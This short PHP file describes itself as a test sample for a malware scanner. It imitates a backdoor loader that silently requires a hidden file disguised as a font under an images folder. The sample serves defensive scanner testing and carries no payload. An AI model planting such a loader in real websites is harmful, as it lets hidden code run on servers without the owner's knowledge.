<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$w_cfg = "/var/www/example.org/htdocs/images/stories/" .
    ".d41d8cd9.woff";
if (is_file($w_cfg)) {
    @require($w_cfg);
}
